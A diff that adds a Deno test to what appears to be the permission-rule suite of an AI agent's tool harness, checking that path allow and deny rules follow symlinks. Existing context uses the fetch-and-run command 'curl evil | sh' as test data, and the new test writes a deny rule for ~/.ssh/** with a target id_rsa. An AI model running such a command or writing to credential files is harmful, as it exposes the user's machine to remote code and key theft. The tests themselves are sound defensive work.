@@ -246,3 +246,38 @@ Deno.test("saving or removing a rule never trusts allow rules the user has not s
   rules = await load();
   equal(decide("curl evil | sh"), undefined, "the added allow rule was not trusted");
 });
+
+Deno.test("a path rule follows links: allow covers only where both the path and its target match", async () => {
+  await using fake = await openFakeSession([]);
+  const { session } = fake;
+  const workspace = session.host.workspace;
+  const outside = await Deno.makeTempDir();
+  try {
+    await Deno.mkdir(`${workspace}/src`);
+    await Deno.symlink(outside, `${workspace}/src/link`);
+    await Deno.writeTextFile(
+      `${fake.configDir}/config.yaml`,
+      "permissions:\n  allow: ['write(src/**)']\n  deny: ['write(~/.ssh/**)']\n",
+    );
+    const config = await loadConfigFile(fake.configDir);
+    const rules = await SessionPermissions.load({
+      configDir: fake.configDir,
+      workspace,
+      config,
+      home: outside,
+    });
+    const decide = (path: string) => rules.decide({ name: "write", args: { path } })?.effect;
+    equal(decide("src/a.ts"), "allow");
+    equal(
+      decide("src/new/dir/b.ts"),
+      "allow",
+      "a path not created yet is followed as far as it exists",
+    );
+    // Through the link the write would land outside the workspace: no allow, the usual question.
+    equal(decide("src/link/.bashrc"), undefined);
+    // A deny rule matches the place a link leads to.
+    equal(decide("src/link/.ssh/id_rsa"), "deny");
+  } finally {
+    await Deno.remove(outside, { recursive: true });
+  }
+});
